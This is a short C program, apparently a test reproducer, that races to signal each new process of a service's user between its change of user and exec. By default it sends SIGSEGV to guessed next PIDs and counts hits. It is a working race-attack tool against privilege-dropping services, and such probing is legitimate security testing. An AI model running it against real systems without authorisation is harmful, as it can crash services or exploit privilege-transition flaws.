/* As a service's user: sends a signal to every new process of that user as early as it can, to hit one between the change of user and
   exec. shooter SECONDS SIGNAL */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

int main(int count, char **words)
{
    int seconds = count > 1 ? atoi(words[1]) : 5;
    time_t end = time(NULL) + seconds;
    time_t last = end + 5 * seconds;    /* if a busy machine has let nothing be hit */
    int signal = count > 2 ? atoi(words[2]) : SIGSEGV;
    long hits = 0;
    while (time(NULL) < end || (hits == 0 && time(NULL) < last)) {
        int newest = fork();    /* the next numbers come after this one */
        if (newest == 0) _exit(0);
        waitpid(newest, NULL, 0);
        for (int turn = 0; turn < 20000; turn++)
            for (int pid = newest + 1; pid < newest + 4; pid++)
                if (kill(pid, signal) == 0) {
                    hits++;
                    newest = pid;
                    turn = 0;
                }
    }
    printf("hit %ld\n", hits);
    fflush(stdout);
    pause();
    return 0;
}
